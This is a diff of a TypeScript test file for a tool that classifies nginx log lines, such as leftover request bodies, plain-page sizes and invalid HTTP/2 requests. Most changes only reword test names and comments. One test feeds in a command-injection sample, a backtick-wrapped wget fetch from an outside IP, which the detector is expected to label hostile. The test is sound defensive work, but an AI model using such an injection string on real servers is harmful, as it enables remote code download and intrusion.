@@ -17,7 +17,7 @@ const OLD_NGINX: readonly Line[] = [
   { ...EMPTY, client: '198.51.100.2' },
 ];
 
-/** The evidence for this text, with a POST or PUT of the same client at each of these seconds. */
+/** The evidence for this text. The same client sent a POST or PUT at each of these seconds. */
 function leftover(text: string, ...posts: readonly number[]): Evidence | undefined {
   const line = { ...REFUSED, request: text, at: 0 };
   const before = posts.filter((at) => at <= 0).map((at) => ({ at, request: 'POST /form HTTP/1.1' }));
@@ -63,7 +63,7 @@ test.for([
   expect(leftover(text, 0)?.case).toBe(expected);
 });
 
-test('body-leftover: attack text and a client that only probes are hostile', () => {
+test('body-leftover: the verdict is hostile for attack text and for a client that only probes', () => {
   expect(leftover('a=`wget http://192.0.2.66/m`', 0)?.verdict).toBe('hostile');
   expect(leftover('a=1', 0)?.verdict).toBeUndefined();
   const line = { ...REFUSED, request: 'a=1' };
@@ -73,9 +73,14 @@ test('body-leftover: attack text and a client that only probes are hostile', () 
 });
 
 test.for([
-  ['the plain page that garbage shows', { request: 'get / HTTP/1.1' }, [GARBAGE], 'method-and-plain-page'],
+  [
+    'the size of the plain page, which a TLS line shows',
+    { request: 'get / HTTP/1.1' },
+    [GARBAGE],
+    'method-and-plain-page',
+  ],
   ['a user agent', { request: 'get / HTTP/1.1', http_user_agent: FIREFOX }, [GARBAGE], 'plain-page'],
-  ['a common size that no garbage shows', { request: 'get / HTTP/1.1' }, [], 'plain-page'],
+  ['a common size, without a line that shows the plain page', { request: 'get / HTTP/1.1' }, [], 'plain-page'],
   ['no method', { request: 'gett / HTTP/1.1' }, [GARBAGE], 'plain-page'],
   ['0 bytes', { request: 'get / HTTP/1.1', body_bytes_sent: 0 }, [GARBAGE], 'nothing-sent'],
   ['another size', { request: 'get / HTTP/1.1', body_bytes_sent: 512 }, [GARBAGE], 'other-size'],
@@ -109,12 +114,12 @@ const HTTP2: readonly Line[] = [
 ];
 
 test.for([
-  ['the plain page that garbage shows', 157, [GARBAGE], 'plain-page'],
-  ['a common size that no garbage shows', 157, [], 'unproven-plain-page'],
+  ['the size of the plain page, which a TLS line shows', 157, [GARBAGE], 'plain-page'],
+  ['a common size, without a line that shows the plain page', 157, [], 'unproven-plain-page'],
   ['a size that no page has', 1311, [GARBAGE], 'size-of-no-page'],
   ['the page of another error', 233, [GARBAGE], undefined],
   ['an old nginx', 157, [GARBAGE, ...OLD_NGINX], undefined],
-  ['an old nginx beside a new one', 157, [GARBAGE, ...OLD_NGINX, ...HTTP2], 'plain-page'],
+  ['an old and a new nginx in one log', 157, [GARBAGE, ...OLD_NGINX, ...HTTP2], 'plain-page'],
 ] as const)('invalid-http2-request: %s', ([, body_bytes_sent, lines, expected]) => {
   const tables = tablesOf(lines);
   const hit = hitOf({ ...REFUSED, request: '-', body_bytes_sent });
